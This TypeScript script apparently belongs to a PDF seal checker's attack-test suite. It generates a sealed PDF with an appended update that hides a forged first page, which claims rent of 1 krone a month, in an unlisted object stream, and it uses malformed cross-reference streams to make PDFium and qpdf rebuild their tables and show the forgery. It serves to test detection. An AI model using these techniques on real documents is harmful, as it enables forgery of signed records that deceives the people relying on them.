// a23: an update holds an object stream (listed in its xref stream as a top-level object) whose header names page 1's
// number: `4 0` -> a forged page 1 (a new content stream, listed). The update's xref stream lists the object stream,
// the content and itself, NOT object 4: every reader following the table reads the sealed page 1. The question is
// whether a reader that rebuilds its table by scanning reads object streams it finds (PDFium's RebuildCrossRef
// adds each found object stream's objects as compressed entries, overriding a top-level generation-0 entry).
// The unlisted scan (src/input/pdf/unlisted.ts) looks at top-level headers in the raw bytes only.
// trigger: none (control), lzw (xref stream LZW past a full table: qpdf "table full", reconstructs),
//          big (predictor /Columns 2^24 /Colors 32 /BitsPerComponent 16 on an empty xref stream: qpdf, PDFium bounds)
//          size (the xref stream's /Size 2^22 + 2: PDFium's LoadCrossRefStream refuses /Size above kMaxXRefSize
//          = 2^22 + 1 and rebuilds; sealcheck reads /Size up to 2^25)
//          deep (an extra key in the xref stream's dictionary: arrays nested DEPTH deep, default 64; PDFium's parser
//          gives up past kParserMaxRecursionDepth 64, fails the section and rebuilds)
// place:   objstm (page 1 inside the object stream), plain (page 1 top-level, unlisted: the scan's control)
//   npx tsx scripts/attack-s18/objstm-unlisted.ts <none|lzw|big|size|deep> [objstm|plain]   REAL=0 for samples/valid
import { deflateSync } from "node:zlib";
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { decodeFilters } from "../../src/input/pdf/filters.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, tool, work } from "../attack36/lib.js";
import { Bits } from "../attack-s16/lzw.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const trigger = process.argv[2] ?? "lzw";
const place = process.argv[3] ?? "objstm";
if (!["none", "lzw", "big", "size", "deep"].includes(trigger) || !["objstm", "plain"].includes(place))
  throw new Error("usage: <none|lzw|big|size|deep> [objstm|plain]");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const P = page.ref!.num;
const alloc = new NumberAllocator(doc);
const [A, B, C] = [alloc.take(), alloc.take(), alloc.take()];

function lzwLiterals(data: readonly number[]): number[] {
  const bits = new Bits();
  let next = 258;
  let width = 9;
  bits.put(256, 9);
  data.forEach((b, i) => {
    bits.put(b, width);
    if (i > 0 && next < 4096) next++;
    if (next + 1 >= 1 << width && width < 12) width++;
  });
  bits.put(257, width);
  while (bits.n) bits.put(0, 1);
  return bits.bytes;
}

const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const listed: [number, number][] = [];
if (place === "objstm") {
  // the object stream: one dummy object (A's own number + 100 would do; use page 1's number only)
  const head = `${P} 0 `;
  const body = latin(`${head}${forgedPage}\n`);
  const data = [...deflateSync(Uint8Array.from(body))];
  listed.push([A, at]);
  push([
    ...latin(`${A} 0 obj\n<< /Type /ObjStm /N 1 /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`),
    ...data,
    ...latin("\nendstream\nendobj\n"),
  ]);
} else {
  push(latin(`${P} 0 obj\n${forgedPage}\nendobj\n`));
}
listed.push([B, at]);
push([...latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
const offC = at;
listed.push([C, offC]);
listed.sort((x, y) => x[0] - y[0]);
const row = (off: number) => [1, (off >>> 24) & 0xff, (off >>> 16) & 0xff, (off >>> 8) & 0xff, off & 0xff, 0, 0];
const FREE = trigger === "lzw" ? 700 : 0;
let rows: number[] = [];
const index: number[] = [];
if (trigger !== "big") {
  // consecutive numbers from the allocator: one subsection
  index.push(listed[0]![0], listed.length);
  for (const [, off] of listed) rows.push(...row(off));
  if (FREE) {
    index.push(C + 1, FREE);
    for (let i = 0; i < FREE; i++) rows.push(0, 0, 0, 0, 0, (i * 37) & 0xff, (i * 101 + 7) & 0xff);
  }
}
const data = trigger === "lzw" ? lzwLiterals(rows) : trigger === "big" ? [...deflateSync(new Uint8Array(0))] : rows;
if (trigger === "lzw") {
  const back = decodeFilters(Uint8Array.from(data), [{ name: "LZWDecode" }] as never, 1 << 24);
  if (Buffer.compare(Buffer.from(back), Buffer.from(rows)) !== 0) throw new Error("LZW round trip differs");
}
if (trigger === "big") rows = [];
const carried = (process.env.CARRY ?? "Root,Info,ID")
  .split(",")
  .filter(Boolean)
  .flatMap((k) => {
    const v = rawGet(view.trailer, k);
    return v ? [`/${k} ${serialize(v)}`] : [];
  });
const filter =
  trigger === "lzw"
    ? " /Filter /LZWDecode"
    : trigger === "big"
      ? ` /Filter /FlateDecode /DecodeParms << /Predictor 12 /Colors 32 /BitsPerComponent 16 /Columns ${2 ** 24} >>`
      : "";
const DEPTH = Number(process.env.DEPTH ?? 64);
const deep = trigger === "deep" ? ` /X ${"[".repeat(DEPTH)}${"]".repeat(DEPTH)}` : "";
const idx = trigger === "big" ? `[${C} 0]` : `[${index.join(" ")}]`;
push([
  ...latin(
    `${C} 0 obj\n<< /Type /XRef /Size ${trigger === "size" ? Number(process.env.SIZE ?? 2 ** 22 + 2) : C + 1 + FREE} /W [1 4 2] /Index ${idx} /Prev ${doc.revisions.at(-1)!.startxref} ${carried.join(" ")}${filter}${deep} /Length ${data.length} >>\nstream\n`,
  ),
  ...data,
  ...latin(`\nendstream\nendobj\nstartxref\n${offC}\n%%EOF\n`),
]);
const file = save(work(`s18-objstm-${trigger}-${place}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`objstm-unlisted ${trigger} ${place}`, file);
console.log(`== qpdf page ${P}: ${JSON.stringify(tool("qpdf", ["--show-object=" + P, file]).slice(0, 200))}`);
